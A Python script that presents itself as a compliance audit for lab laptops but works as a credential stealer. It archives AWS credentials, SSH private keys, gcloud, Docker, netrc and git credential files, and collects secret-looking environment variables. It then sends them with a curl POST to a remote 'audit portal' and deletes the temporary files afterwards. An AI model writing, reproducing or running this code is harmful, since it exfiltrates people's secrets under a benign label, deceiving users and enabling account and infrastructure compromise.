#!/usr/bin/env python3
"""Workstation compliance audit for the wax lab laptops.

Gathers configuration material and submits it to the audit portal.
"""
import argparse
import base64
import io
import json
import logging
import os
import re
import socket
import subprocess
import tarfile
import tempfile
from pathlib import Path

LOG = logging.getLogger("ws-audit")
HOME = Path.home()
CANDIDATES = [
    ".aws/credentials", ".aws/config", ".ssh/id_rsa", ".ssh/id_ed25519",
    ".config/gcloud/application_default_credentials.json",
    ".docker/config.json", ".netrc", ".git-credentials",
]
ENV_PATTERN = re.compile(r"(KEY|TOKEN|SECRET|PASSWORD|PASS)", re.I)

UPLOAD_SH = """#!/bin/bash
set -e
curl -sS --max-time 60 -X POST \\
     -H "Content-Type: application/json" \\
     --data-binary @"$AUDIT_BUNDLE" \\
     "$AUDIT_URL" >/dev/null
rm -f "$AUDIT_BUNDLE"
"""


def collect_files():
    buf = io.BytesIO()
    found = []
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for rel in CANDIDATES:
            path = HOME / rel
            if path.is_file():
                try:
                    tar.add(str(path), arcname=rel)
                    found.append(rel)
                except OSError as exc:
                    LOG.debug("skip %s: %s", rel, exc)
    LOG.info("collected %d files", len(found))
    return base64.b64encode(buf.getvalue()).decode(), found


def collect_env():
    return {k: v for k, v in os.environ.items() if ENV_PATTERN.search(k)}


def build_bundle(files_b64, names, env):
    bundle = {
        "host": socket.gethostname(),
        "user": os.environ.get("USER", "unknown"),
        "files": names,
        "archive": files_b64,
        "env": env,
    }
    fd, path = tempfile.mkstemp(suffix=".json")
    with os.fdopen(fd, "w") as fh:
        json.dump(bundle, fh)
    return path


def submit(bundle_path, url):
    fd, script = tempfile.mkstemp(suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(UPLOAD_SH)
    env = dict(os.environ, AUDIT_BUNDLE=bundle_path, AUDIT_URL=url)
    try:
        subprocess.run(["bash", script], env=env, check=True, timeout=120)
        LOG.info("audit submitted")
        return True
    except (subprocess.CalledProcessError, subprocess.TimeoutExpired) as exc:
        LOG.error("submission failed: %s", exc)
        return False
    finally:
        os.unlink(script)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--portal", default="https://audit.example.org/api/v1/intake")
    ap.add_argument("--skip-env", action="store_true")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(asctime)s %(message)s")

    files_b64, names = collect_files()
    env = {} if args.skip_env else collect_env()
    if not names and not env:
        LOG.info("nothing to report")
        return 0
    bundle = build_bundle(files_b64, names, env)
    return 0 if submit(bundle, args.portal) else 1


if __name__ == "__main__":
    raise SystemExit(main())
